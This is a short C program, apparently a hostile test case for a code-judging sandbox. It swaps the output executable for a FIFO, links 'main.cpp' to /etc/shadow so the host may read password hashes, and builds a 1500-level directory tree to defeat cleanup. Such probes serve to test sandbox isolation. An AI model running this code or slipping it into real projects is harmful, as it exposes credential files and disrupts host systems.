// SPDX-License-Identifier: GPL-3.0-or-later
// Replaces the file that a later run or the host might read by a FIFO, and hides a tree too deep to walk.
#include <sys/stat.h>
#include <unistd.h>

int main()
{
    unlink("executable");
    mkfifo("executable", 0777);
    unlink("main.cpp");
    symlink("/etc/shadow", "main.cpp");
    for (int depth = 0; depth < 1500 && mkdir("deep", 0700) == 0 && chdir("deep") == 0; ++depth) {
    }
}
